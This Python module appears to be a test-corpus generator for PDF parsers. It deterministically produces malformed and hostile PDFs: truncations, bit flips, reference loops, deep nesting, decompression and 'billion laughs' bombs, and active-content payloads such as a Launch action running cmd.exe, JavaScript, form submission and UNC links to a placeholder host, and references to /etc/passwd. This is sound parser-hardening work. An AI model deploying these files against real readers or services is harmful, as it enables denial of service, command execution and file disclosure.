"""Makes PDFs that are broken or built to do harm, the same ones for the same seed."""

from __future__ import annotations

import io
import random
import re
import zlib
from collections.abc import Callable, Iterator

from reportlab.pdfgen.canvas import Canvas

FONT = "<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
TREE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"


def malformed(seed: int = 4) -> Iterator[tuple[str, bytes]]:
    """Yield (name, content) of each file; the first word of a name is its kind."""
    rng = random.Random(seed)
    bases = [_text(3), _text(40), _encrypted(), _with_streams()]
    yield from _truncated(bases, rng)
    yield from _flipped(bases, rng)
    yield from _rewritten(bases, rng)
    yield from _wrong_types(bases[1])
    yield from _loops()
    yield from _deep()
    yield from _bombs()
    yield from _many_pages()
    yield from _active()
    yield from _no_pdf(rng)


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """Return a PDF of these objects, numbered from 1."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, io.SEEK_END)
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(out.tell())
        body = content.encode("latin-1") if isinstance(content, str) else content
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(
        f"trailer << /Size {len(objects) + 1} /Root {root} 0 R {trailer} >>\n"
        f"startxref\n{start}\n%%EOF\n".encode()
    )
    return out.getvalue()


def stream(content: bytes, more: str = "") -> bytes:
    """Return a stream object."""
    head = f"<< /Length {len(content)} {more} >>\nstream\n".encode()
    return head + content + b"\nendstream"


def page(more: str = "/Contents 4 0 R", resources: str = FONT) -> str:
    """Return a page object."""
    return f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources {resources} {more} >>"


def packed(size: int, byte: bytes = b" ") -> bytes:
    """Return so many bytes, deflated, without ever holding them."""
    deflate = zlib.compressobj(9)
    block = byte * (1 << 20)
    parts = [deflate.compress(block) for _ in range(size >> 20)]
    return b"".join([*parts, deflate.flush()])


HELLO = stream(b"BT /F 12 Tf 20 200 Td (hello) Tj ET")


def _text(pages: int) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    for number in range(1, pages + 1):
        canvas.bookmarkPage(f"p{number}")
        canvas.addOutlineEntry(f"Part {number}", f"p{number}")
        for line in range(20):
            canvas.drawString(60, 760 - 16 * line, f"Line {line} of page {number} with words")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def _encrypted() -> bytes:
    out = io.BytesIO()
    from reportlab.lib.pdfencrypt import StandardEncryption

    canvas = Canvas(out, invariant=1, encrypt=StandardEncryption("", "owner", strength=128))
    canvas.drawString(60, 700, "for all to read")
    canvas.save()
    return out.getvalue()


def _with_streams() -> bytes:
    """A file whose objects lie in object streams, as newer programs write them."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_text(5))))
    writer.add_attachment("notes.txt", b"attached")
    out = io.BytesIO()
    writer.write(out)
    import pikepdf

    again = io.BytesIO()
    with pikepdf.open(out) as opened:
        opened.save(again, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return again.getvalue()


def _truncated(bases: list[bytes], rng: random.Random) -> Iterator[tuple[str, bytes]]:
    for which, base in enumerate(bases):
        for cut in sorted(rng.sample(range(20, len(base) - 1), 12)):
            yield f"truncated {which} at {cut}", base[:cut]


def _flipped(bases: list[bytes], rng: random.Random) -> Iterator[tuple[str, bytes]]:
    for which, base in enumerate(bases):
        for turn in range(18):
            damaged = bytearray(base)
            for _ in range(rng.choice((1, 8, 64, 400))):
                damaged[rng.randrange(len(damaged))] ^= 1 << rng.randrange(8)
            yield f"flipped {which} {turn}", bytes(damaged)


def _rewritten(bases: list[bytes], rng: random.Random) -> Iterator[tuple[str, bytes]]:
    def numbers(pattern: bytes, new: Callable[[], int]) -> Callable[[bytes], bytes]:
        return lambda data: re.sub(pattern, lambda m: m[1] + b"%d" % new(), data)

    changes = {
        "lengths": numbers(rb"(/Length )\d+", lambda: rng.choice((0, 1, 7, 10**6, 2**31, 2**63))),
        "counts": numbers(rb"(/Count )\d+", lambda: rng.choice((0, -1, 10**9, 2**40))),
        "sizes": numbers(rb"(/Size )\d+", lambda: rng.choice((0, 1, 10**8, 2**62))),
        "references": numbers(rb"( )\d+(?= 0 R)", lambda: rng.randrange(60)),
        "xref": numbers(rb"(\n)\d{10}(?= 00000 n)", lambda: rng.randrange(10**5)),
        "startxref": numbers(rb"(startxref\s+)\d+", lambda: rng.randrange(10**6)),
        "widths": numbers(rb"(/W \[ ?)\d+", lambda: rng.randrange(9)),
    }
    for name, change in changes.items():
        for which in (0, 1, 3):
            for turn in range(2):
                yield f"rewritten {name} {which} {turn}", change(bases[which])


def _wrong_types(base: bytes) -> Iterator[tuple[str, bytes]]:
    wrong = (b"null", b"-7", b"(text)", b"/Name", b"[1 [2 [3]]]", b"<< /A 1 >>", b"1e400")
    for key in (b"/Kids", b"/MediaBox", b"/Contents", b"/Resources", b"/Root", b"/Type"):
        for value in wrong[:4] if key == b"/Type" else wrong:
            pattern = key + rb"\s*(\[[^\]]*\]|<<.*?>>|\d+ 0 R|/\w+)"
            changed = re.sub(pattern, lambda m, k=key, v=value: k + b" " + v, base, flags=re.S)
            yield f"wrong-type {key.decode()[1:]} {value.decode().replace('/', '')[:8]}", changed


def _loops() -> Iterator[tuple[str, bytes]]:
    yield "loop page is its parent", pdf(CATALOG, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
    yield (
        "loop kids",
        pdf(
            CATALOG,
            "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 9 >>",
            "<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9 >>",
        ),
    )
    yield "loop length", pdf(CATALOG, TREE, page(), "<< /Length 4 0 R >>\nstream\nBT\nendstream")
    yield "loop reference", pdf(CATALOG, TREE, page(), "4 0 R")
    yield "loop references", pdf(CATALOG, TREE, page("/Contents 5 0 R"), "5 0 R", "4 0 R")
    yield "loop resources", pdf(CATALOG, TREE, page("/Contents 4 0 R", "3 0 R"), HELLO)
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %s >> >>"
    yield (
        "loop form in itself",
        pdf(
            CATALOG,
            TREE,
            page("/Contents 5 0 R", "<< /XObject << /X 4 0 R >> >>"),
            stream(b"/X Do", form % "4 0 R"),
            stream(b"/X Do"),
        ),
    )
    yield (
        "loop outline",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
            TREE,
            page(),
            HELLO,
            "<< /First 6 0 R /Last 6 0 R >>",
            "<< /Title (a) /Next 6 0 R /First 5 0 R /Parent 5 0 R >>",
        ),
    )
    yield (
        "loop names",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /Names << /Dests 5 0 R /EmbeddedFiles 5 0 R >> >>",
            TREE,
            page(),
            HELLO,
            "<< /Kids [5 0 R 5 0 R] >>",
        ),
    )
    yield (
        "loop fields",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
            TREE,
            page(),
            HELLO,
            "<< /T (a) /FT /Tx /Kids [5 0 R] /Parent 5 0 R >>",
        ),
    )
    yield (
        "loop labels",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /PageLabels 5 0 R >>",
            TREE,
            page(),
            HELLO,
            "<< /Kids [5 0 R] >>",
        ),
    )
    yield (
        "loop xref",
        pdf(CATALOG, TREE, page(), HELLO, trailer="/Prev 9 /XRefStm 9").replace(
            b"/Prev 9", b"/Prev %d" % (pdf(CATALOG, TREE, page(), HELLO).index(b"xref\n0"))
        ),
    )
    actions = "<< /S /JavaScript /JS (x) /Next 5 0 R >>"
    yield (
        "loop actions",
        pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", TREE, page(), HELLO, actions),
    )
    yield (
        "loop font",
        pdf(
            CATALOG,
            TREE,
            page("/Contents 4 0 R", "<< /Font << /F 5 0 R >> >>"),
            HELLO,
            "<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>",
        ),
    )


def _deep() -> Iterator[tuple[str, bytes]]:
    for depth in (1_000, 100_000):
        array = "[" * depth + "]" * depth
        yield f"deep array {depth}", pdf(CATALOG, TREE, page(f"/Contents 4 0 R /A {array}"), HELLO)
        nested = "<</A " * depth + "1" + ">>" * depth
        yield (
            f"deep dictionary {depth}",
            pdf(CATALOG, TREE, page(f"/Contents 4 0 R /A {nested}"), HELLO),
        )
        yield f"deep brackets {depth}", pdf(CATALOG, TREE, page(), stream(b"[" * depth + b" TJ"))
        yield f"deep states {depth}", pdf(CATALOG, TREE, page(), stream(b"q " * depth + b"BT ET"))
        yield f"deep string {depth}", pdf(CATALOG, TREE, page(), stream(b"(" * depth + b")"))
    for depth in (50, 5_000):
        nodes = [
            f"<< /Type /Pages /Kids [{n + 3} 0 R] /Parent {n + 1} 0 R /Count 1 >>"
            for n in range(depth)
        ]
        last = page(f"/Contents {depth + 3} 0 R")
        yield f"deep page tree {depth}", pdf(CATALOG, *nodes, last, HELLO)


def _bombs() -> Iterator[tuple[str, bytes]]:
    flate = "/Filter /FlateDecode"
    for size in (100 << 20, 1 << 30, 4 << 30):
        yield (
            f"bomb content {size >> 20} MB",
            pdf(CATALOG, TREE, page(), stream(packed(size), flate)),
        )
    twice = zlib.compress(packed(4 << 30), 9)
    nested = "/Filter [/FlateDecode /FlateDecode]"
    yield "bomb nested", pdf(CATALOG, TREE, page(), stream(twice, nested))
    thrice = zlib.compress(twice, 9)
    nested = "/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    yield "bomb nested again", pdf(CATALOG, TREE, page(), stream(thrice, nested))
    many = [stream(packed(60 << 20), flate) for _ in range(12)]
    references = " ".join(f"{n + 4} 0 R" for n in range(len(many)))
    yield "bomb of many streams", pdf(CATALOG, TREE, page(f"/Contents [{references}]"), *many)
    yield (
        "bomb of one stream",
        pdf(CATALOG, TREE, page(f"/Contents [{'4 0 R ' * 1000}]"), stream(packed(50 << 20), flate)),
    )
    for levels, times in ((8, 10), (30, 2), (3, 4000)):
        forms = []
        for level in range(levels):
            inner = "" if level == levels - 1 else f"/XObject << /X {level + 6} 0 R >>"
            more = f"/Subtype /Form /BBox [0 0 9 9] /Resources << {inner} {FONT[2:-2]} >>"
            forms.append(stream(b"/X Do " * times + b"BT /F 9 Tf (ha) Tj ET", more))
        resources = "<< /XObject << /X 5 0 R >> >>"
        first = page("/Contents 4 0 R", resources)
        yield f"bomb laughs {levels} {times}", pdf(CATALOG, TREE, first, stream(b"/X Do"), *forms)
    image = "/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB "
    resources = "<< /XObject << /X 5 0 R >> >>"
    draw = stream(b"q 300 0 0 300 0 0 cm /X Do Q")
    yield (
        "bomb image",
        pdf(
            CATALOG,
            TREE,
            page("/Contents 4 0 R", resources),
            draw,
            stream(packed(1 << 30, b"\0"), image + flate),
        ),
    )
    yield (
        "bomb mapping",
        pdf(
            CATALOG,
            TREE,
            page("/Contents 4 0 R", "<< /Font << /F 5 0 R >> >>"),
            HELLO,
            "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R "
            "/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>] >>",
            stream(
                b"1 begincodespacerange <0000> <ffff> endcodespacerange\n"
                + b"1 beginbfrange <0000> <ffffffff> <0041> endbfrange\n" * 50
            ),
        ),
    )
    predictor = "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2000000000 >>"
    yield "bomb predictor", pdf(CATALOG, TREE, page(), stream(packed(40 << 20), predictor))
    yield (
        "bomb runs",
        pdf(CATALOG, TREE, page(), stream(b"\x81 " * 5_000_000, "/Filter /RunLengthDecode")),
    )
    yield "bomb of operators", pdf(CATALOG, TREE, page(), stream(b"0 0 m 9 9 l S " * 2_000_000))
    yield (
        "bomb of text",
        pdf(CATALOG, TREE, page(), stream(b"BT /F 9 Tf " + b"(aaaaaaaaaa) Tj " * 400_000 + b"ET")),
    )
    for size in ("1e30 1e30", "0 0", "14400 14400", "-5 -5"):
        big = page().replace("300 300", size)
        yield f"bomb page of {size}", pdf(CATALOG, TREE, big, HELLO)


def _many_pages() -> Iterator[tuple[str, bytes]]:
    one = page("").replace("2 0 R", "2 0 R", 1)
    kids = "3 0 R " * 100_000
    yield (
        "pages one 100000 times",
        pdf(CATALOG, f"<< /Type /Pages /Kids [{kids}] /Count 100000 >>", one),
    )
    numbers = " ".join(f"{n} 0 R" for n in range(3, 20_003))
    yield (
        "pages 20000",
        pdf(CATALOG, f"<< /Type /Pages /Kids [{numbers}] /Count 20000 >>", *[one] * 20_000),
    )
    for count in (2**31 - 1, 2**63, -(2**31)):
        yield (
            f"pages count {count}",
            pdf(CATALOG, TREE.replace("/Count 1", f"/Count {count}"), page(), HELLO),
        )


def _active() -> Iterator[tuple[str, bytes]]:
    actions = {
        "javascript": "<< /S /JavaScript /JS (app.launchURL\\('x'\\)) >>",
        "launch": "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "submit": "<< /S /SubmitForm /F (http://192.0.2.1/) >>",
        "other-file": "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        "address": "<< /S /URI /URI (file:///etc/passwd) >>",
    }
    for name, action in actions.items():
        yield (
            f"active {name} at opening",
            pdf(f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>", TREE, page(), HELLO),
        )
        note = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]"
        yield f"active {name} on a page", pdf(CATALOG, TREE, page(f"/Contents 4 0 R {note}"), HELLO)
    outside = "/Contents << /Length 0 /F (/etc/passwd) >>"
    yield "active outside stream", pdf(CATALOG, TREE, page(outside), HELLO)


def _no_pdf(rng: random.Random) -> Iterator[tuple[str, bytes]]:
    yield "none empty", b""
    yield "none header only", b"%PDF-1.7\n"
    yield "none trailer only", b"%PDF-1.7\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF"
    yield "none noise", b"%PDF-1.4\n" + rng.randbytes(50_000)
    yield "none zeros", b"%PDF-1.4\n" + bytes(5_000_000)
    yield "none text", b"%PDF-\n" + b"Dear Ana,\n" * 1000
    yield "none signs", b"%PDF-1.4\n" + b"<< [ ( " * 100_000
    yield "none objects", b"%PDF-1.4\n" + b"1 0 obj\n" * 200_000
    yield "none xrefs", b"%PDF-1.4\n" + b"xref\n0 99999999\n" * 5_000
    yield "none html", b"<html>%PDF-1.4</html>" * 100
    secret = (
        "/Encrypt << /Filter /Standard /V %d /R %d /Length 7 /O (x) /U (y) /P -1 >> /ID [(a)(b)]"
    )
    for version, revision in ((1, 2), (4, 4), (5, 6), (99, 99)):
        content = pdf(CATALOG, TREE, page(), HELLO, trailer=secret % (version, revision))
        yield f"encrypted {version} wrongly", content
    unknown = "/Encrypt << /Filter /NobodyKnows /V 1 >>"
    yield "encrypted by nobody", pdf(CATALOG, TREE, page(), HELLO, trailer=unknown)
